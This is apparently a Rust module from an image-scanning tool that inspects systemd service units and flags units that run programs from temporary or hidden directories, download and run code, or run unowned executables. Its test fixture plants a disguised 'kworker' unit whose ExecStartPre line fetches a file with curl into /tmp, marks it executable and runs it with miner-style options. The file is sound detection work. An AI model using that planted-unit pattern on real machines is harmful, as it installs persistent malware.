//! systemd: service units in every system and user unit directory, their
//! `Exec*=` lines read as systemd reads them (prefixes `-@:+!` stripped),
//! including units enabled through `*.wants/` links. A unit is suspicious
//! on the same grounds as a cron job.

use super::{CommandIds, info, logical_lines, report_command};
use crate::check::{Check, CheckContext, CheckInfo};
use imgscan_sbom::{Finding, Severity};

/// The systemd check.
pub struct Systemd;

const IDS: CommandIds = CommandIds {
    temp: info(
        "systemd.runs-from-tmp",
        Severity::High,
        "a systemd unit runs a program from /tmp, /var/tmp, /dev/shm or a hidden directory",
    ),
    download: info(
        "systemd.download-and-run",
        Severity::High,
        "a systemd unit downloads or decodes code and runs it",
    ),
    unowned: info(
        "systemd.runs-unowned",
        Severity::Medium,
        "a systemd unit runs a system-path executable that no installed package owns",
    ),
};
const INFO: &[CheckInfo] = &[IDS.temp, IDS.download, IDS.unowned];

const UNIT_DIRS: &[&str] = &[
    "etc/systemd/system/",
    "run/systemd/system/",
    "usr/lib/systemd/system/",
    "lib/systemd/system/",
    "usr/local/lib/systemd/system/",
    "etc/systemd/user/",
    "usr/lib/systemd/user/",
    "root/.config/systemd/user/",
];

const EXEC_KEYS: &[&str] = &[
    "ExecStart",
    "ExecStartPre",
    "ExecStartPost",
    "ExecReload",
    "ExecStop",
    "ExecStopPost",
    "ExecCondition",
];

impl Check for Systemd {
    fn info(&self) -> &'static [CheckInfo] {
        INFO
    }

    fn globs(&self) -> &'static [&'static str] {
        &[
            "etc/systemd/system/**/*.service",
            "run/systemd/system/**/*.service",
            "usr/lib/systemd/system/**/*.service",
            "lib/systemd/system/**/*.service",
            "usr/local/lib/systemd/system/**/*.service",
            "etc/systemd/user/**/*.service",
            "usr/lib/systemd/user/**/*.service",
            "root/.config/systemd/user/**/*.service",
            "home/*/.config/systemd/user/**/*.service",
        ]
    }

    fn run(&self, ctx: &CheckContext<'_>) -> Vec<Finding> {
        let mut out = Vec::new();
        let units = ctx.paths_where(|p| p.ends_with(b".service") && in_unit_dir(p));
        for path in units {
            // A `*.wants/` link resolves to the unit it enables; that unit is
            // reported under its own path.
            if ctx
                .tree
                .resolve(&path)
                .is_some_and(|real| real != path && in_unit_dir(&real))
            {
                continue;
            }
            let Some(text) = ctx.text(&path) else {
                continue;
            };
            for (number, line) in logical_lines(&text) {
                let Some((key, value)) = line.split_once('=') else {
                    continue;
                };
                if EXEC_KEYS.contains(&key.trim()) {
                    let command = value.trim().trim_start_matches(['-', '@', ':', '+', '!']);
                    report_command(
                        ctx,
                        &IDS,
                        "systemd unit",
                        &path,
                        Some(number),
                        command,
                        &mut out,
                    );
                }
            }
        }
        out
    }
}

fn in_unit_dir(path: &[u8]) -> bool {
    let user_home =
        path.starts_with(b"home/") && path.windows(22).any(|w| w == b"/.config/systemd/user/");
    user_home || UNIT_DIRS.iter().any(|d| path.starts_with(d.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use imgscan_sbom::test_tree::MapTree;

    #[test]
    fn planted_units_are_found_and_defaults_are_clean() {
        let tree = MapTree::new(&[
            ("lib/systemd/system/cron.service", "[Service]\nEnvironmentFile=-/etc/default/cron\nExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS\n"),
            ("etc/systemd/system/kworker.service", "[Service]\nExecStartPre=-/bin/sh -c 'curl -s http://x/k -o /tmp/k; chmod +x /tmp/k'\nExecStart=/tmp/.k/kworker --donate-level 1\n"),
            ("home/dev/.config/systemd/user/sync.service", "[Service]\nExecStart=/home/dev/.local/share/.sync/run\n"),
        ])
        .link("etc/systemd/system/multi-user.target.wants/kworker.service", "/etc/systemd/system/kworker.service");
        let found: Vec<(&str, String)> = Systemd
            .run(&CheckContext::new(&tree, &[]))
            .into_iter()
            .map(|f| (f.id, f.path))
            .collect();
        assert!(
            found.contains(&(
                "systemd.download-and-run",
                "/etc/systemd/system/kworker.service".into()
            )),
            "{found:?}"
        );
        assert!(
            found.contains(&(
                "systemd.runs-from-tmp",
                "/etc/systemd/system/kworker.service".into()
            )),
            "{found:?}"
        );
        assert!(
            found.contains(&(
                "systemd.runs-from-tmp",
                "/home/dev/.config/systemd/user/sync.service".into()
            )),
            "{found:?}"
        );
        assert!(
            !found
                .iter()
                .any(|f| f.1.contains("cron") || f.1.contains(".wants/")),
            "{found:?}"
        );
    }
}
